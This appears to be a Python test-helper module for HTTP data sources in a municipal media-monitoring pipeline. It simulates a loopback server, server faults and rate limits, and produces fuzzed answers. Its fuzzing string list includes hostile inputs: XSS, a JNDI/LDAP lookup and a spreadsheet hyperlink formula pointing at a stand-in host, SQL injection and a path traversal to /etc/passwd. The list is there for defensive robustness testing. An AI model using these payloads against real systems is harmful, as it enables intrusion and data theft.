"""What the tests of HTTP sources share: runs against a server on loopback, faults, odd answers.

`read` is one collection; `runs` are as many as Airflow would make, each from the cursor of the
last that went well. `disturbed` puts one fault in the place of one answer. `odd` makes answers of
a documented shape that no one documented: nulls, extreme numbers, unknown fields, wrong types.
"""

from __future__ import annotations

import copy
import json
import random
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import httpx

from pipelines import http
from pipelines.accept import accept
from pipelines.attention import Attention
from pipelines.errors import SourceError
from pipelines.mention import MENTION_SCHEMA, Deletion, Mention, Post, Rejection, to_table
from pipelines.normalise import normalise
from pipelines.places import finder
from pipelines.settings import Institution, Settings, SourceBlock, Subject
from pipelines.sources import Checkpoint, Payload, Request, Source, Terms
from pipelines.subjects import matcher
from tests.pipelines.loopback import NOON, Answer, Asked, Clock, serving

SINCE, UNTIL = NOON - timedelta(hours=1), NOON
STEP = timedelta(minutes=5)
Server = Callable[[Asked], Answer]


@dataclass(kw_only=True)
class Reading:
    """What one collection gave."""

    payloads: list[Payload]
    checkpoint: Checkpoint
    parsed: list[Any]
    asked: list[Asked]
    clock: Clock

    @property
    def posts(self) -> list[Post]:
        return [item for item in self.parsed if isinstance(item, Post)]

    @property
    def measures(self) -> list[Attention]:
        return [item for item in self.parsed if isinstance(item, Attention)]

    @property
    def ids(self) -> list[str]:
        return [item.native_id for item in (*self.posts, *self.measures)]

    @property
    def gone(self) -> list[str]:
        return [item.native_id for item in self.parsed if isinstance(item, Deletion)]

    @property
    def cursor(self) -> dict[str, Any]:
        return self.checkpoint.cursor

    @property
    def note(self) -> str:
        return self.checkpoint.note or ""

    @property
    def paths(self) -> list[str]:
        return [asked.path for asked in self.asked]


def answered(value: Any, status: int = 200, **headers: str) -> Answer:
    """An answer of JSON."""
    named = {name.replace("_", "-"): text for name, text in headers.items()}
    return Answer(status, {"content-type": "application/json", **named}, json.dumps(value).encode())


def read(
    source: Source,
    server: Server,
    *,
    cursor: dict[str, Any] | None = None,
    since: datetime = SINCE,
    until: datetime = UNTIL,
    terms: Terms | None = None,
    secrets: Mapping[str, str] | None = None,
    recheck: tuple[str, ...] = (),
    clock: Clock | None = None,
    at: tuple[str, ...] = ("host",),
    contact: str = "veille@valmont.example",
    **chosen: Any,
) -> Reading:
    """One collection of `server`, whose address the options `at` are given; errors pass through.

    A cursor moves from server to server: the address in it is that of the new one.
    """
    clock = clock or Clock(at=until)
    with (
        serving(server) as peer,
        http.Client(
            contact=contact,
            allow_private=("127.0.0.0/8",),
            sleep=clock.sleep,
            now=clock.now,
            timeout=httpx.Timeout(0.4),
        ) as client,
    ):
        options = source.Options(**dict.fromkeys(at, peer.url), **chosen)
        request = Request(
            name="essai",
            options=options,
            terms=terms or Terms(names=("Valmont",)),
            cursor=_moved(cursor, peer.url),
            since=since,
            until=until,
            client=client,
            home=Path(),
            secrets=secrets or {},
            recheck_ids=recheck,
        )
        items = list(source.collect(request))
    assert isinstance(items[-1], Checkpoint)
    payloads = [item for item in items if isinstance(item, Payload)]
    gaps = [item for item in items if isinstance(item, Checkpoint)]
    parsed = [found for payload in payloads for found in source.parse(payload, options)]
    checkpoint = Checkpoint(
        cursor=json.loads(json.dumps(gaps[-1].cursor).replace(peer.url, "PEER")),
        gap=next((item.gap for item in reversed(gaps) if item.gap), None),
        capped=any(item.capped for item in gaps),
        note=gaps[-1].note,
    )
    return Reading(
        payloads=payloads, checkpoint=checkpoint, parsed=parsed, asked=peer.asked, clock=clock
    )


def _moved(cursor: dict[str, Any] | None, url: str) -> dict[str, Any] | None:
    moved: dict[str, Any] | None = json.loads(json.dumps(cursor).replace("PEER", url))
    return moved


@dataclass(kw_only=True)
class Runs:
    """What a series of runs gave: the readings that went well and the errors of the others."""

    readings: list[Reading] = field(default_factory=list)
    errors: list[SourceError] = field(default_factory=list)
    clock: Clock = field(default_factory=Clock)

    @property
    def ids(self) -> list[str]:
        return [native_id for reading in self.readings for native_id in reading.ids]

    @property
    def landed(self) -> list[str]:
        return [
            json.dumps([payload.kind, payload.data], sort_keys=True, default=str)
            for reading in self.readings
            for payload in reading.payloads
        ]


def runs(
    source: Source, server: Server, count: int, *, step: timedelta = STEP, **chosen: Any
) -> Runs:
    """`count` runs, five minutes apart or `step`, each from the cursor of the last that went well.

    What a run that failed had read is thrown away, as landing does.
    """
    made = Runs(clock=Clock(at=UNTIL))
    cursor, since, until = None, chosen.pop("since", SINCE), chosen.pop("until", UNTIL)
    for _ in range(count):
        made.clock.at = max(made.clock.at, until)
        try:
            reading = read(
                source,
                server,
                cursor=cursor,
                since=since,
                until=until,
                clock=made.clock,
                **chosen,
            )
        except SourceError as error:
            made.errors.append(error)
        else:
            made.readings.append(reading)
            cursor, since = reading.cursor, until
        until = max(until, made.clock.at) + step
    return made


def disturbed(server: Server, fault: Answer, *, at: int, times: int = 1) -> Server:
    """The server, with `fault` in the place of its answers from the `at`-th on, `times` times."""
    asked = 0

    def answer(request: Asked) -> Answer:
        nonlocal asked
        asked += 1
        return fault if at <= asked < at + times else server(request)

    return answer


# Faults that any service may have; each source adds the forms of its own 429.
FAULTS: Mapping[str, Answer] = {
    "500": Answer(500, body=b"<html>oops"),
    "502": Answer(502),
    "503 that tells when": Answer(503, {"Retry-After": "7"}),
    "429 in seconds": Answer(429, {"Retry-After": "30"}),
    "429 as a date": Answer(429, {"Retry-After": "Fri, 20 Nov 2026 12:01:00 GMT"}),
    "429 that tells nothing": Answer(429),
    "429 for longer than a run": Answer(429, {"Retry-After": "800"}),
    "no answer": Answer(is_silent=True),
    "broken off": Answer(body=b'{"items": [', length=4_000),
    "JSON cut short": Answer(headers={"content-type": "application/json"}, body=b'{"items": [{'),
    "a page of HTML": Answer(
        headers={"content-type": "text/html; charset=utf-8"}, body=b"<!doctype html><html>Bonjour"
    ),
}


# Answers that nobody documented


TEXTS = (
    "",
    " ",
    "\x00",
    "Valmont",
    "Valmont <script>alert(1)</script>",
    "{{7*7}} ${jndi:ldap://pisteur.example/a} '; drop table mention; --",
    '=HYPERLINK("http://pisteur.example")',
    "\u202eValmont\u202c \ud83d\ude21",
    "../../etc/passwd",
    "javascript:alert(1)",
    "https://pisteur.example/" + "a" * 3_000,
    "1e999",
    "9999-12-31T23:59:59-23:59",
    "0000-00-00T00:00:00Z",
    "20261399T256199Z",
    "NaN",
    "a\u0301" * 500,
    "&#0;&#x110000;&nbsp;&bogus;&lt;b&gt;",
    "\\ud800",
)
NUMBERS = (0, -1, 1, 2**31, 2**53, 2**63, -(2**63), 10**30, 0.5, -0.0, 1e308, 253_402_300_800)


def odd(shape: Any, *, count: int = 300, seed: int = 20261120) -> Iterator[Any]:
    """`count` answers like `shape`, each with some of its values spoilt, the same every time."""
    dice = random.Random(seed)
    for _ in range(count):
        answer = copy.deepcopy(shape)
        for _ in range(dice.randint(1, 6)):
            answer = _spoilt(answer, dice)
        yield answer


def _spoilt(value: Any, dice: random.Random) -> Any:
    """The value with one place in it changed; rarely the whole of it."""
    if not isinstance(value, dict | list) or not value or dice.random() < 0.04:
        return _anything(dice)
    if isinstance(value, list):
        place = dice.randrange(len(value))
        return [_spoilt(v, dice) if n == place else v for n, v in enumerate(value)]
    name = dice.choice(sorted(value))
    match dice.randrange(5):
        case 0:
            return {key: inner for key, inner in value.items() if key != name}
        case 1:
            return value | {"unknown_field": {"deep": [1, {"er": None}]}}
        case 2:
            return value | {name: None}
        case _:
            return value | {name: _spoilt(value[name], dice)}


def _anything(dice: random.Random) -> Any:
    made = (
        None,
        True,
        dice.choice(NUMBERS),
        dice.choice(TEXTS),
        [],
        {},
        [dice.choice(TEXTS), None, dice.choice(NUMBERS)],
        {"value": dice.choice(TEXTS), "a": {"b": [dice.choice(NUMBERS)]}},
    )
    return dice.choice(made)


def check_parsed(items: list[Any]) -> None:
    """Each item is one that a parser may give; a rejection says why, and quotes nobody."""
    for item in items:
        assert isinstance(item, Post | Deletion | Rejection | Attention), item
        if isinstance(item, Rejection):
            assert item.reason
            assert item.reason.replace("_", "").isalnum()
            assert item.detail
            assert "alert(" not in item.detail


def check_kept(source: Source, items: list[Any]) -> None:
    """What a parser gave goes on to the contract of accepted data, each item kept or refused."""
    with_place = ((item, f"landing/essai/x#{n}") for n, item in enumerate(items))
    outcomes = list(
        normalise(
            with_place,
            settings=SETTINGS,
            block=SourceBlock(name="essai", kind=source.MANIFEST.name),
            manifest=source.MANIFEST,
            key=bytes(range(32)),
            matcher=matcher(SETTINGS.subjects, SETTINGS.institution),
            finder=finder(),
            run_id="20261120T120000Z",
            seen_at=NOON,
        )
    )
    assert len(outcomes) == len(items)
    mentions = [item for item in outcomes if isinstance(item, Mention)]
    assert mentions
    accepted = accept(to_table(mentions, MENTION_SCHEMA))
    kept = accepted.table.num_rows + len(accepted.rejections) + accepted.duplicate_count
    assert kept == len(mentions)


SETTINGS = Settings(
    home=Path("/nowhere"),
    institution=Institution(
        id="valmont", name="Ville de Valmont", kind="commune", legal_basis="délibération"
    ),
    subjects=(
        Subject(
            id="valmont", label="Valmont", purpose="répondre aux habitants", names=("Valmont",)
        ),
    ),
)
